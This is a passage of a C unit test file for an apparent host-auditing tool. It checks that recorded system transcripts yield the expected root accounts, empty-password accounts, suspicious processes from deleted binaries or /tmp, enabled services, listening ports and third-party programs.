	    "sshd.options{key=passwordauthentication}.values => [\"no\"]",
	    "accounts.list{name=root}.password => \"set\"", "accounts.list{name=root}.max => null",
	    "cloud_init.status => \"done\"", "warnings => []", NULL } },
};

static void join(struct strbuf *sb, const char *s)
{
	if (sb->len)
		strbuf_addch(sb, ',');
	strbuf_addstr(sb, s);
}

static int check_list(const char *file, const char *what, struct strbuf *got, const char *want)
{
	const char *g = got->buf ? got->buf : "";
	if (!strcmp(g, want))
		return 0;
	print_error("%s: %s are '%s', want '%s'\n", file, what, g, want);
	return 1;
}

static void test_transcripts(void **state)
{
	(void)state;
	int bad = 0;
	for (size_t i = 0; i < ARRAY_SIZE(transcript_rows); i++) {
		const struct transcript_row *r = &transcript_rows[i];
		char *path = xasprintf("%s/transcripts/%s", test_data_dir(), r->file);
		struct gather g;
		struct facts *f = facts_of_file(path, &g);
		struct strbuf sb = STRBUF_INIT;
		if (!f) {
			print_error("%s: cannot be read or framed\n", path);
			free(path);
			bad++;
			continue;
		}
		if (!gather_complete(&g)) {
			print_error("%s: the transcript is not complete\n", path);
			bad++;
		}
		if (f->packages.list.n < r->min_packages) {
			print_error("%s: %zu packages, want at least %zu\n", path, f->packages.list.n, r->min_packages);
			bad++;
		}
		for (size_t k = 0; k < f->accounts.list.n; k++)
			if (f->accounts.list.v[k].uid == 0)
				join(&sb, f->accounts.list.v[k].name);
		bad += check_list(r->file, "uid-0 accounts", &sb, r->uid0);
		strbuf_reset(&sb);
		for (size_t k = 0; k < f->accounts.list.n; k++)
			if (!strcmp(f->accounts.list.v[k].password, "empty"))
				join(&sb, f->accounts.list.v[k].name);
		bad += check_list(r->file, "empty-password accounts", &sb, r->empty_pw);
		strbuf_reset(&sb);
		for (size_t k = 0; k < f->processes.list.n; k++) {
			const struct facts_process *pr = &f->processes.list.v[k];
			if (pr->deleted || pr->in_tmp) {
				char *one = xasprintf("%lld:%s", pr->pid, pr->comm);
				join(&sb, one);
				free(one);
			}
		}
		bad += check_list(r->file, "suspicious processes", &sb, r->bad_procs);
		strbuf_reset(&sb);
		char *want = xstrdup(r->enabled), *save = NULL;
		for (char *name = strtok_r(want, ",", &save); name; name = strtok_r(NULL, ",", &save)) {
			const struct facts_service *sv = facts_service_find(f, name);
			if (!sv || !sv->enabled) {
				print_error("%s: service '%s' is not enabled\n", r->file, name);
				bad++;
			}
		}
		free(want);
		for (size_t k = 0; k < f->listening.list.n; k++) {
			char *one = xasprintf("%s/%lld", f->listening.list.v[k].proto, f->listening.list.v[k].port);
			char *have = xasprintf(",%s,", sb.buf ? sb.buf : ""), *item = xasprintf(",%s,", one);
			if (!strstr(have, item))
				join(&sb, one);
			free(have);
			free(item);
			free(one);
		}
		bad += check_list(r->file, "listening ports", &sb, r->ports);
		strbuf_reset(&sb);
		for (size_t k = 0; k < f->third_party.list.n; k++) {
			char *one = xasprintf("%s=%s", f->third_party.list.v[k].name,
					      f->third_party.list.v[k].version ? f->third_party.list.v[k].version : "?");
			join(&sb, one);
			free(one);
		}
		bad += check_list(r->file, "third-party programs", &sb, r->third);
		bad += check_expect(r->file, f, r->expect);
		strbuf_release(&sb);
		facts_free(f);
		gather_release(&g);
		free(path);
	}
	assert_int_equal(bad, 0);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_os),
		cmocka_unit_test(test_pkg),
		cmocka_unit_test(test_sys),
		cmocka_unit_test(test_lookup),
		cmocka_unit_test(test_queries),
		cmocka_unit_test(test_component_table),
		cmocka_unit_test(test_vercmp),
		cmocka_unit_test(test_strndup_sanitises),
		cmocka_unit_test(test_numbers_and_splits),
		cmocka_unit_test(test_truncation),
		cmocka_unit_test(test_release),
		cmocka_unit_test(test_caps),
		cmocka_unit_test(test_index),
		cmocka_unit_test(test_transcripts),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
